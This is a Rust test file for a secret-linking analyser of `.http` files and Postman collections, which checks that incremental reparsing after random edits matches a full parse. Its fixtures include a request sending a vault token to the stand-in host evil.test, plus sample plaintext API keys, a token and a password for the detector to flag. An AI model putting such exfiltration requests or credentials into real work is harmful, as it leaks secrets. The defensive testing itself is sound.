//! Incremental and from-scratch analysis agree after random edits: the parse, and the
//! findings in a context with a links file and an environment.
//!
//! `VAULTLINK_INCREMENTAL_EDITS` sets how many random edits the property runs (default
//! 20,000; `scripts/incremental.sh` runs the long version).

use super::*;
use crate::syntax::env;
use crate::text::{Splice, TextRange};
use crate::vault::analysis::EnvSource;
use crate::vault::analysis::FileScope;
use crate::vault::links;

/// Lines an `.http` file is made of, with the constructs whose state crosses lines:
/// scripts, `{{ }}` blocks, comments, `proto < file`, bodies, variables that other
/// requests use.
const LINES: &[&str] = &[
    "###",
    "### named",
    "#### deco",
    "@host = api.example.test",
    "@token = {{vault:api-token}}",
    "@other = {{token}}",
    "GET https://{{host}}/items",
    "POST https://evil.test/x?k={{vault:api-token}}",
    "GET {{base}}/x",
    "get https://a.test",
    "Authorization: Bearer {{vault:api-token}}",
    "X-Secret: {{vault:not-linked}}",
    "X-Var: {{token}}",
    "X-Undefined: {{nowhere}}",
    "  continued",
    "",
    "",
    "{",
    "  \"k\": \"{{vault:db-password}}\"",
    "}",
    "> {%",
    "client.global.set(\"made\", 1);",
    "%}",
    "> {% client.global.set(\"later\", 2) %}",
    "< {%",
    "{{",
    "exports.fromJs = 1",
    "}}",
    "/*",
    "*/",
    "proto < ./a.proto",
    "option: 1",
    "# @name req",
    "# @name made",
    "# @name reqs",
    "GET https://a.test/{{reqResponse}}/{{req1}}/{{reqs.id}}/{{madeup}}",
    "@hosts = {{host}}x",
    "# @loop for item of items",
    "# @prompt asked",
    "// a comment",
    "<> previous.json",
    "< ./body.json",
    "import ./other.http",
    "# @import ./more.http",
    "> ./handler.js",
    "run #req",
    "GET https://{{made}}.example.test/{{asked}}/{{later}}",
    "é✓ 😀",
    "X-Api-Key: sk_live_4eC39HqLyjWDarjtT1zdp7dc",
    "# vaultlink-ignore plaintext-secret",
    "password=Zx9qL2vB7wR4tY8u",
    "-----BEGIN PRIVATE KEY-----",
    "-----END PRIVATE KEY-----",
    "Authorization: token",
    "Zm9vYmFyYmF6cXV4cXV1eHh5enp5MTIzNDU2Nzg5MA",
    "### sk_live_4eC39HqLyjWDarjtT1zdp7dc",
    "X-Open: {{vault:api-token",
];

const PIECES: &[&str] = &[
    "\n",
    "\r\n",
    "\r",
    "#",
    "###",
    "{{",
    "}}",
    "{%",
    "%}",
    "@",
    "=",
    " ",
    ":",
    "/*",
    "*/",
    "vault:",
    "\n###\n",
    "\nGET https://x.test\n",
    "😀",
    "é",
];

pub(crate) fn random_text(rng: &mut fastrand::Rng) -> String {
    let n = rng.usize(0..60);
    let mut out = String::new();
    for _ in 0..n {
        out.push_str(LINES[rng.usize(..LINES.len())]);
        out.push_str(match rng.u8(0..10) {
            0 => "\r\n",
            1 => "\r",
            _ => "\n",
        });
    }
    out
}

fn char_boundary(text: &str, mut at: usize) -> usize {
    while !text.is_char_boundary(at) {
        at -= 1;
    }
    at
}

/// A random edit of `text`: a typed piece, a deleted range, a pasted line or a few.
pub(crate) fn random_edit(rng: &mut fastrand::Rng, text: &str) -> (usize, usize, String) {
    let start = char_boundary(text, rng.usize(0..=text.len()));
    let len = match rng.u8(0..4) {
        0 => rng.usize(0..40),
        1 => rng.usize(0..4),
        _ => 0,
    };
    let end = char_boundary(text, (start + len).min(text.len())).max(start);
    let new = match rng.u8(0..4) {
        0 => String::new(),
        1 => format!("{}\n", LINES[rng.usize(..LINES.len())]),
        _ => PIECES[rng.usize(..PIECES.len())].to_string(),
    };
    (start, end, new)
}

pub(crate) const LINKS: &str = r#"{ "secrets": {
  "api-token": { "link": "https://kv.vault.azure.net/secrets/api-token", "allowedDomains": ["*.example.test"] },
  "db-password": { "link": "https://kv.vault.azure.net/secrets/db-password" }
} }"#;

pub(crate) const ENV: &str = r#"{ "dev": { "base": "https://api.example.test" } }"#;

/// Runs `f` in the context the random-edit properties read documents in: `LINKS`, and `ENV`
/// as an environment file.
pub(crate) fn in_test_context<R>(f: impl FnOnce(&Context<'_>) -> R) -> R {
    let links = links::parse(LINKS);
    let env = env::parse_http_client(ENV, false);
    let envs = [EnvSource {
        text: ENV,
        file: &env,
    }];
    f(&Context {
        links: Some(&links),
        envs: &envs,
        env_name: None,
    })
}

/// Edits `text` `edits` times at random, each time comparing the incremental parse and
/// findings with a parse and analysis of the whole new text.
/// `text` after `count` edits made by `edit`, one after the other, and the one splice that
/// covers them.
fn burst(
    rng: &mut fastrand::Rng,
    text: &str,
    count: usize,
    edit: impl Fn(&mut fastrand::Rng, &str) -> (usize, usize, String),
) -> (String, Splice) {
    let mut new = text.to_owned();
    let mut covered: Option<Splice> = None;
    for _ in 0..count {
        let (start, end, piece) = edit(rng, &new);
        new.replace_range(start..end, &piece);
        let splice = Splice {
            start,
            old_end: end,
            new_end: start + piece.len(),
        };
        covered = Some(covered.map_or(splice, |c| c.then(splice)));
    }
    (new, covered.expect("at least one edit"))
}

fn check_random_edits(rng: &mut fastrand::Rng, edits: usize) {
    in_test_context(|ctx| {
        let mut text = random_text(rng);
        let mut parsed = Parsed::parse(DocKind::Http, &text);
        let mut findings = parsed.analyze(&text, ctx);
        let (mut done, mut bursts, mut reused, mut scope_edits) = (0, 0, 0, 0);
        while done < edits {
            // A burst of edits before the next parse, as an editor sends keystrokes.
            let count = rng.usize(1..4);
            let (new, splice) = burst(rng, &text, count, random_edit);
            done += count;
            assert_eq!(new[..splice.start], text[..splice.start]);
            assert_eq!(new[splice.new_end..], text[splice.old_end..]);
            let old_scope = parsed.file_scope(&text);
            let (next, patch) = reparse(DocKind::Http, parsed, &text, &new, splice);
            let fresh = Parsed::parse(DocKind::Http, &new);
            assert_eq!(
                format!("{next:?}"),
                format!("{fresh:?}"),
                "the parse after {splice:?} of {text:?} into {new:?}"
            );
            let expected = fresh.analyze(&new, ctx);
            let kept = patch.and_then(|p| {
                scope_edits += usize::from(p.scope_edit().is_some());
                let names = scope_read(old_scope, &p, &next, &new);
                reanalyse(&findings, &p, &new, &next, ctx, &names)
            });
            reused += usize::from(kept.is_some());
            bursts += 1;
            let got = kept.unwrap_or_else(|| next.analyze(&new, ctx));
            assert_eq!(
                got, expected,
                "the findings after {splice:?} of {text:?} into {new:?}"
            );
            (text, parsed, findings) = (new, next, got);
            // Now and then a new document, so that edits meet every kind of text.
            if rng.u8(0..50) == 0 {
                text = random_text(rng);
                parsed = Parsed::parse(DocKind::Http, &text);
                findings = parsed.analyze(&text, ctx);
            }
        }
        // Most edits keep the findings outside the blocks they touch.
        assert!(
            reused * 2 > bursts,
            "only {reused} of {bursts} bursts of edits kept findings"
        );
        // Some change only the names a block defines (a request renamed), and edit the scope.
        assert!(
            scope_edits * 100 > bursts,
            "only {scope_edits} of {bursts} bursts of edits edited the scope"
        );
    })
}

/// Calls `f` on `count` `.http` texts, each a random edit of the one before, or now and then
/// a new random text, from the properties' seed.
pub(crate) fn for_each_edited_text(count: usize, mut f: impl FnMut(&str)) {
    let rng = &mut fastrand::Rng::with_seed(edits_and_seed().1);
    let mut text = random_text(rng);
    for _ in 0..count {
        let (start, end, piece) = random_edit(rng, &text);
        text.replace_range(start..end, &piece);
        if rng.u8(0..30) == 0 {
            text = random_text(rng);
        }
        f(&text);
    }
}

/// [`for_each_edited_text`] for collections, a new one a quarter of the time (edits break
/// them fast).
pub(crate) fn for_each_edited_collection(count: usize, mut f: impl FnMut(&str)) {
    let rng = &mut fastrand::Rng::with_seed(edits_and_seed().1);
    let mut text = random_collection(rng);
    for _ in 0..count {
        let (start, end, piece) = random_json_edit(rng, &text);
        text.replace_range(start..end, &piece);
        if rng.u8(0..4) == 0 {
            text = random_collection(rng);
        }
        f(&text);
    }
}

/// How many random edits a property runs, and its seed, from the environment.
pub(crate) fn edits_and_seed() -> (usize, u64) {
    let edits = std::env::var("VAULTLINK_INCREMENTAL_EDITS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(20_000);
    let seed = std::env::var("VAULTLINK_INCREMENTAL_SEED")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(13);
    (edits, seed)
}

#[test]
fn random_edits_give_the_parse_and_findings_of_the_whole_text() {
    let (edits, seed) = edits_and_seed();
    check_random_edits(&mut fastrand::Rng::with_seed(seed), edits);
}

#[test]
fn an_edit_inside_one_block_parses_only_that_block() {
    let text = "@host = a.example.test\n\n### one\nGET https://{{host}}/1\n\n### two\nGET https://{{host}}/2\nX: {{vault:nope}}\n\n### three\nGET https://{{host}}/3\n";
    let at = text.find("/2").unwrap() + 2;
    let mut new = text.to_string();
    new.insert_str(at, "22");
    let splice = Splice {
        start: at,
        old_end: at,
        new_end: at + 2,
    };
    let old = Parsed::parse(DocKind::Http, text);
    let (_, patch) = reparse(DocKind::Http, old, text, &new, splice);
    let patch = patch.expect("an incremental parse");
    let two = new.find("### two").unwrap();
    let three = new.find("### three").unwrap();
    assert_eq!(
        patch.region,
        Splice {
            start: two,
            old_end: three - 2,
            new_end: three
        }
    );
    let Part::Http {
        file, same_scope, ..
    } = &patch.part
    else {
        panic!("an .http patch: {patch:?}");
    };
    assert!(same_scope);
    assert_eq!(
        file.requests[0].range,
        TextRange::from_usize(two, new.find("nope}}").unwrap() + 6)
    );
}

#[test]
fn an_edit_to_a_variable_analyses_the_whole_file() {
    let text = "@host = a.example.test\n\n### one\nGET https://{{host}}/1\n";
    let mut new = text.to_string();
    new.insert(2, 'x');
    let splice = Splice {
        start: 2,
        old_end: 2,
        new_end: 3,
    };
    let old = Parsed::parse(DocKind::Http, text);
    let (_, patch) = reparse(DocKind::Http, old, text, &new, splice);
    let patch = patch.expect("an incremental parse");
    assert!(matches!(
        patch.part,
        Part::Http {
            same_scope: false,
            ..
        }
    ));
}

/// Items a collection is made of: requests with references in every place the analysis
/// reads, folders, scripts that set names, escapes, plaintext credentials and the ignore
/// marker.
const ITEMS: &[&str] = &[
    r#"{"name": "one", "request": {"method": "GET", "url": "https://{{host}}/items", "header": [{"key": "Authorization", "value": "Bearer {{vault:api-token}}"}]}}"#,
    r#"{"name": "two", "request": {"url": {"raw": "https://evil.test/x?k={{vault:api-token}}", "host": ["evil", "test"], "query": [{"key": "k", "value": "{{vault:api-token}}"}]}}}"#,
    r#"{"name": "three", "request": {"method": "POST", "url": "{{base}}/x", "body": {"mode": "raw", "raw": "{\"k\": \"{{vault:db-password}}\", \"u\": \"{{nowhere}}\"}"}}}"#,
    r#"{"name": "scripted", "event": [{"listen": "test", "script": {"exec": ["pm.collectionVariables.set(\"made\", 1);", "pm.vault.get(\"api-token\")"]}}], "request": {"url": "https://{{made}}.example.test"}}"#,
    "{\"name\": \"secret\",\n \"request\": {\"url\": \"https://a.example.test\", \"header\": [{\"key\": \"X-Api-Key\", \"value\": \"sk_live_4eC39HqLyjWDarjtT1zdp7dc\"}]}}",
    "{\"name\": \"ignored\",\n \"request\": {\"url\": \"https://a.example.test\",\n \"header\": [\n {\"//\": \"vaultlink-ignore plaintext-secret\",\n \"key\": \"password\", \"value\": \"Zx9qL2vB7wR4tY8u\"}]}}",
    r#"{"name": "folder", "variable": [{"key": "inner", "value": "1"}], "item": [{"name": "in", "request": "https://{{inner}}.example.test/{{vault:not-linked}}"}]}"#,
    r#"{"name": "caf\u00e9 \"q\"", "request": {"url": "https://{{host}}/caf\u00e9/{{vault:api-token}}", "auth": {"type": "bearer", "bearer": [{"key": "token", "value": "{{vault:db-password}}"}]}}}"#,
];

const JSON_PIECES: &[&str] = &[
    "x",
    " ",
    "\n",
    "\r\n",
    "\"",
    "\\",
    "\\\"",
    "{",
    "}",
    "[",
    "]",
    ",",
    ":",
    "{{",
    "}}",
    "vault:",
    "{{vault:api-token}}",
    "{{token}}",
    "{{made}}",
    "é",
    "😀",
    "pm.collectionVariables.set(\\\"token\\\")",
    "vaultlink-ignore plaintext-secret",
    "ghp_16C7e42F292c6912E7710c838347Ae178B4a",
    "\"item\": []",
    "\"variable\": [{\"key\": \"token\"}]",
];

pub(crate) fn random_collection(rng: &mut fastrand::Rng) -> String {
    let items: Vec<&str> = (0..rng.usize(0..8))
        .map(|_| ITEMS[rng.usize(..ITEMS.len())])
        .collect();
    format!(
        "{{\n\"info\": {{\"name\": \"c\", \"schema\": \"https://schema.getpostman.com/json/collection/v2.1.0/collection.json\"}},\n\"item\": [\n{}\n],\n\"variable\": [{{\"key\": \"host\", \"value\": \"api.example.test\"}}]\n}}\n",
        items.join(",\n")
    )
}

/// The newman collections: the shared folder is `VAULTLINK_SHARED`, else `../shared` beside
/// the repository.
pub(crate) fn conformance_dir() -> std::path::PathBuf {
    std::env::var_os("VAULTLINK_SHARED")
        .map(std::path::PathBuf::from)
        .unwrap_or_else(|| std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../shared"))
        .join("conformance/postman-collections")
}

/// Collections to read two ways and compare: the newman collections, then `random` random
/// ones, each broken by up to three random edits.
pub(crate) fn sample_collections(rng: &mut fastrand::Rng, random: usize) -> Vec<String> {
    let mut texts: Vec<String> = std::fs::read_dir(conformance_dir())
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .filter(|path| path.extension().is_some_and(|ext| ext == "json"))
        .map(|path| std::fs::read_to_string(path).unwrap())
        .collect();
    for _ in 0..random {
        let mut text = random_collection(rng);
        for _ in 0..rng.usize(0..4) {
            let (start, end, piece) = random_json_edit(rng, &text);
            text.replace_range(start..end, &piece);
        }
        texts.push(text);
    }
    texts
}

/// A random edit of a collection: mostly typing inside it, now and then a deletion or an item
/// pasted.
pub(crate) fn random_json_edit(rng: &mut fastrand::Rng, text: &str) -> (usize, usize, String) {
    let start = char_boundary(text, rng.usize(0..=text.len()));
    let len = match rng.u8(0..6) {
        0 => rng.usize(0..30),
        1 => rng.usize(0..3),
        _ => 0,
    };
    let end = char_boundary(text, (start + len).min(text.len())).max(start);
    let new = match rng.u8(0..10) {
        0 => String::new(),
        1 => format!("{},", ITEMS[rng.usize(..ITEMS.len())]),
        _ => JSON_PIECES[rng.usize(..JSON_PIECES.len())].to_string(),
    };
    (start, end, new)
}

/// [`check_random_edits`] for Postman collections.
fn check_random_collection_edits(rng: &mut fastrand::Rng, edits: usize) {
    in_test_context(|ctx| {
        let kind = DocKind::Collection;
        let mut text = random_collection(rng);
        let mut parsed = Parsed::parse(kind, &text);
        let mut findings = parsed.analyze(&text, ctx);
        let (mut done, mut bursts, mut patched, mut reused, mut past) = (0, 0, 0, 0, 0);
        while done < edits {
            let count = rng.usize(1..3);
            let (new, splice) = burst(rng, &text, count, random_json_edit);
            done += count;
            let old_scope = parsed.file_scope(&text);
            let (next, patch) = reparse(kind, parsed, &text, &new, splice);
            let fresh = Parsed::parse(kind, &new);
            assert_eq!(
                format!("{next:?}"),
                format!("{fresh:?}"),
                "the parse after {splice:?} of {text:?} into {new:?}"
            );
            let expected = fresh.analyze(&new, ctx);
            patched += usize::from(patch.is_some());
            past +=
                usize::from(matches!(&patch, Some(p) if matches!(p.part, Part::PastValue { .. })));
            let kept = patch.and_then(|p| {
                let names = scope_read(old_scope, &p, &next, &new);
                reanalyse(&findings, &p, &new, &next, ctx, &names)
            });
            reused += usize::from(kept.is_some());
            bursts += 1;
            let got = kept.unwrap_or_else(|| next.analyze(&new, ctx));
            assert_eq!(
                got, expected,
                "the findings after {splice:?} of {text:?} into {new:?}"
            );
            (text, parsed, findings) = (new, next, got);
            // A collection that edits broke is started again half the time, so that edits meet
            // valid JSON and JSON with errors (which items read again with theirs) alike.
            let broken = !matches!(&parsed, Parsed::Collection(c) if c.errors.is_empty());
            if rng.u8(0..40) == 0 || broken && rng.u8(0..2) == 0 {
                text = random_collection(rng);
                parsed = Parsed::parse(kind, &text);
                findings = parsed.analyze(&text, ctx);
            }
        }
        // Most edits land inside one item and keep the findings of the others,
        assert!(
            patched * 8 > bursts && reused * 10 > bursts,
            "{patched} of {bursts} bursts of edits parsed one item, {reused} kept findings"
        );
        // and now and then one lands past the JSON value of a collection that a stray bracket
        // closed early.
        assert!(
            past * 200 > bursts,
            "{past} of {bursts} bursts of edits were past the collection's value"
        );
    })
}

#[test]
fn random_edits_of_a_collection_give_the_parse_and_findings_of_the_whole_text() {
    // Each edit analyses the whole collection twice: fewer by default than for `.http` files.
    let (edits, seed) = edits_and_seed();
    let edits = if std::env::var_os("VAULTLINK_INCREMENTAL_EDITS").is_some() {
        edits
    } else {
        2_000
    };
    check_random_collection_edits(&mut fastrand::Rng::with_seed(seed), edits);
}

#[test]
fn an_edit_inside_one_item_reads_only_that_item() {
    let coll = format!("{{\"item\": [{}, {}, {}]}}", ITEMS[0], ITEMS[6], ITEMS[2]);
    let at = coll.find("{{inner}}").unwrap() + 2;
    let mut new = coll.clone();
    new.insert(at, 'x');
    let splice = Splice {
        start: at,
        old_end: at,
        new_end: at + 1,
    };
    let old = Parsed::parse(DocKind::Collection, &coll);
    let (_, patch) = reparse(DocKind::Collection, old, &coll, &new, splice);
    let patch = patch.expect("an incremental parse");
    // The innermost item: the request inside the folder.
    let inner = coll.find("{\"name\": \"in\"").unwrap();
    let end = coll[inner..].find("}]}").unwrap() + inner + 1;
    assert_eq!(
        patch.region,
        Splice {
            start: inner,
            old_end: end,
            new_end: end + 1
        }
    );
    let Part::Item(item) = &patch.part else {
        panic!("a collection patch: {patch:?}");
    };
    assert_eq!(item.path, [1, 0]);
    assert!(item.keeps_findings);
}

#[test]
fn an_edit_past_a_collection_closed_early_keeps_its_parse_and_findings() {
    // A stray `}` closes the collection early: what follows is text past its JSON value,
    // which the parse reports at its first character and reads no further.
    let coll = format!(
        "{{\"item\": [{}]}}}}\n{{\"item\": [{}]}}\n",
        ITEMS[0], ITEMS[4]
    );
    let past = coll.find("}}\n{").unwrap() + 1;
    let at = coll.rfind("\"item\"").unwrap() + 2;
    let (_, next, patch, kept, whole) = edit_kind(DocKind::Collection, &coll, at, 0, "x");
    assert!(
        matches!(
            patch.part,
            Part::PastValue {
                keeps_findings: true
            }
        ),
        "{patch:?}"
    );
    assert_eq!(patch.region.start, at);
    let Parsed::Collection(c) = &next else {
        panic!("a collection: {next:?}");
    };
    let trailing = c.errors.last().expect("the text past the value");
    assert_eq!(trailing.range.start as usize, past);
    assert_eq!(kept.expect("the findings are kept"), whole);
    // A credential past the value is no request's: it is not reported, there or after.
    assert!(!whole.iter().any(|f| f.code == Code::PlaintextSecret));

    // Before the text's first character, or right after a `/` that may begin a comment:
    // the whole text is parsed.
    let edit = |text: &str, at: usize, typed: &str| {
        let mut new = text.to_string();
        new.insert_str(at, typed);
        let splice = Splice {
            start: at,
            old_end: at,
            new_end: at + typed.len(),
        };
        reparse(
            DocKind::Collection,
            Parsed::parse(DocKind::Collection, text),
            text,
            &new,
            splice,
        )
        .1
    };
    assert!(edit(&coll, past, "x").is_none());
    let slash = coll.replacen("}}\n{", "}\n/{", 1);
    let past = slash.find("\n/{").unwrap() + 1;
    assert!(edit(&slash, past + 1, "/").is_none());
    assert!(edit(&slash, past + 2, "/").is_some());

    // An ignore marker typed past the value: the findings are computed again.
    let (_, _, patch, kept, _) = edit_kind(
        DocKind::Collection,
        &coll,
        at,
        0,
        " vaultlink-ignore plaintext-secret ",
    );
    assert!(matches!(
        patch.part,
        Part::PastValue {
            keeps_findings: false
        }
    ));
    assert!(kept.is_none());
}

#[test]
fn an_edit_that_breaks_one_item_reads_only_that_item_with_its_errors() {
    let coll = format!("{{\"item\": [{}, {}, {}]}}", ITEMS[0], ITEMS[6], ITEMS[2]);
    // A stray character between the inner request's members: a syntax error inside it.
    let at = coll.find("\"request\": \"https://{{inner}}").unwrap();
    let (new, next, _, kept, whole) = edit_kind(DocKind::Collection, &coll, at, 0, "x");
    let fresh = Parsed::parse(DocKind::Collection, &new);
    assert_eq!(format!("{next:?}"), format!("{fresh:?}"));
    let Parsed::Collection(c) = &next else {
        panic!("a collection: {next:?}");
    };
    assert!(!c.errors.is_empty(), "the item has a syntax error");
    let kept = kept.expect("the other items' findings are kept");
    assert_eq!(kept, whole);
    assert!(kept.iter().any(|f| f.code == Code::SyntaxError));
}

/// Edits `text` at `at` (`removed` bytes replaced by `typed`): the new text, its parse made
/// incrementally and its patch, and the findings kept from `text`'s, with those of a parse
/// and analysis of the whole new text to compare.
fn edit(
    text: &str,
    at: usize,
    removed: usize,
    typed: &str,
) -> (String, Patch, Vec<Finding>, Vec<Finding>) {
    let (new, _, patch, kept, whole) = edit_kind(DocKind::Http, text, at, removed, typed);
    (new, patch, kept.expect("findings kept"), whole)
}

/// [`edit`] of a document of `kind`, with the new parse, and `None` for the findings when
/// none could be kept.
fn edit_kind(
    kind: DocKind,
    text: &str,
    at: usize,
    removed: usize,
    typed: &str,
) -> (String, Parsed, Patch, Option<Vec<Finding>>, Vec<Finding>) {
    let ctx = Context {
        links: None,
        envs: &[],
        env_name: None,
    };
    let mut new = text.to_string();
    new.replace_range(at..at + removed, typed);
    let splice = Splice {
        start: at,
        old_end: at + removed,
        new_end: at + typed.len(),
    };
    let old = Parsed::parse(kind, text);
    let findings = old.analyze(text, &ctx);
    let old_scope = old.file_scope(text);
    let (next, patch) = reparse(kind, old, text, &new, splice);
    let patch = patch.expect("an incremental parse");
    let names = scope_read(old_scope, &patch, &next, &new);
    let kept = reanalyse(&findings, &patch, &new, &next, &ctx, &names);
    let whole = Parsed::parse(kind, &new).analyze(&new, &ctx);
    (new, next, patch, kept, whole)
}

#[test]
fn renaming_a_request_that_nothing_else_uses_keeps_the_other_findings() {
    let text = "### one\n# @name first\nGET https://a.test/1\nX: {{vault:nope}}\n\n### two\n# @name second\nGET https://a.test/{{first.response.body.id}}\nY: {{vault:nope}}\n\n### three\n# @name secondary\nGET https://a.test/{{secondaryResponse}}/{{seconds}}\n";
    let rename = |name: &str| {
        let at = text.find(name).unwrap() + name.len();
        let (_, _, _, kept, whole) = edit_kind(DocKind::Http, text, at, 0, "x");
        (kept, whole)
    };
    // `second` is used nowhere (`secondary` and `seconds` are other names): the other
    // requests' findings are kept.
    let (kept, whole) = rename("second");
    assert_eq!(kept.expect("findings kept"), whole);
    // `first` is used by the second request, which now names an undefined request.
    let (kept, whole) = rename("first");
    assert!(kept.is_none(), "every finding may change");
    assert!(
        whole.iter().any(|f| f.message.contains("first")),
        "{whole:?}"
    );
}

#[test]
fn an_edit_scans_its_block_and_the_next_for_credentials() {
    let text = "### one\nGET https://a.test/1\nX-Api-Key: sk_live_4eC39HqLyjWDarjtT1zdp7dc\n\n### two\nGET https://a.test/2\n\n### three\nGET https://a.test/3\nX-Api-Key: sk_live_4eC39HqLyjWDarjtT1zdp7dc\n\n### four\nGET https://a.test/4\n";
    let at = text.find("/2").unwrap() + 2;
    let (new, patch, kept, whole) = edit(text, at, 0, "2");
    let (two, four) = (new.find("### two").unwrap(), new.find("### four").unwrap());
    assert_eq!(
        patch.scan(),
        Some(Splice {
            start: two,
            old_end: four - 1,
            new_end: four
        })
    );
    assert_eq!(kept, whole);
    assert_eq!(
        kept.iter()
            .filter(|f| f.code == Code::PlaintextSecret)
            .count(),
        2
    );
}

#[test]
fn a_marker_typed_above_a_separator_line_hides_its_credential() {
    let text = "### one\nGET https://a.test/1\n\n### sk_live_4eC39HqLyjWDarjtT1zdp7dc\nGET https://a.test/2\n";
    let at = text.find("\n\n###").unwrap() + 1;
    let (_, _, kept, whole) = edit(text, at, 0, "# vaultlink-ignore plaintext-secret");
    assert_eq!(kept, whole);
    assert!(kept.iter().all(|f| f.code != Code::PlaintextSecret));
}

#[test]
fn a_private_key_or_an_open_brace_scans_the_whole_text() {
    let key = "### one\nPOST https://a.test/1\n\n-----BEGIN PRIVATE KEY-----\n### two\nGET https://a.test/2\n\n### three\nGET https://a.test/3\n";
    let at = key.find("/2").unwrap() + 2;
    let (_, patch, kept, whole) = edit(key, at, 0, "2");
    assert_eq!(kept, whole);
    assert!(
        kept.iter().any(|f| f.code == Code::PlaintextSecret),
        "the key runs to the end"
    );
    assert!(patch.scan().is_some(), "the old lines scanned hold no key");
    let open = "### one\nGET https://a.test/1\nX-Open: {{vault:a\n\n### two\nGET https://a.test/2\nX-Api-Key: sk_live_4eC39HqLyjWDarjtT1zdp7dc\n";
    let at = open.find("/2").unwrap() + 2;
    let (_, _, kept, whole) = edit(open, at, 0, "2");
    assert_eq!(kept, whole);
}

/// The scope of the new text as the server reads it: the old text's, taken over when the
/// patch keeps it or edited as the patch says, which must then be what the new text
/// defines; else the new text's own.
fn scope_read(old: FileScope, patch: &Patch, next: &Parsed, new: &str) -> FileScope {
    let own = next.file_scope(new);
    let mut old = old;
    if patch.keeps_scope() {
        assert_eq!(old, own, "the scope kept across the edit into {new:?}");
    } else if let Some(edit) = patch.scope_edit() {
        old.edit(edit);
        assert_eq!(old, own, "the scope edited by {edit:?} into {new:?}");
    } else {
        return own;
    }
    old
}
